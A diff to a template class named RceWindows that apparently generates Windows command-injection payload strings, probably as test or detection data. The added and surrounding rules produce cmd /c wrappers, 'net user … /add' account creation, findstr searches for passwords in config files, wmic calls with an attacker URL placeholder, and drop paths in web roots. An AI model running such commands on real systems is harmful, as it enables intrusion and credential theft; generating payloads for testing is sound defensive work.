@@ -8,7 +8,7 @@ internal static class RceWindows
         6× «wpre»«wsep»«wcmd»«wpost»
         4× «powershell»
         3× «wsep»«wcmd»
-        2× «wcmd»
+        2× «wbare»
         2× «wpre»«wsep»«powershell»
         2× «whidden»
         «lolbin»
@@ -59,6 +59,11 @@ internal static class RceWindows
         «wexe»wmic «process call create "«cmd /c whoami¦calc¦«wout»»"¦os get /format:"«evilurl»"¦useraccount list»
         «wexe»findstr /«si¦s» «password¦pass» *.«txt¦xml¦config»
         «wexe»dir %«APPDATA¦USERPROFILE¦TEMP¦windir¦PUBLIC»%
+        §wbare
+        «cmd /c¦cmd.exe /c¦%COMSPEC% /c¦c:\winnt\system32\cmd.exe /c¦cmd /k» «wcmd»
+        type «winfile»
+        net user «rand» «rand» /add
+        ping -n «#1-30» «127.0.0.1¦«ip»»
         §wout
         «c:¦C:»\«windows\temp¦users\public¦inetpub\wwwroot¦temp¦xampp\htdocs¦windows\tasks»\«rand».«txt¦exe¦bat¦aspx¦ps1¦php¦dll¦vbs»
         %TEMP%\«rand».«exe¦bat¦ps1»
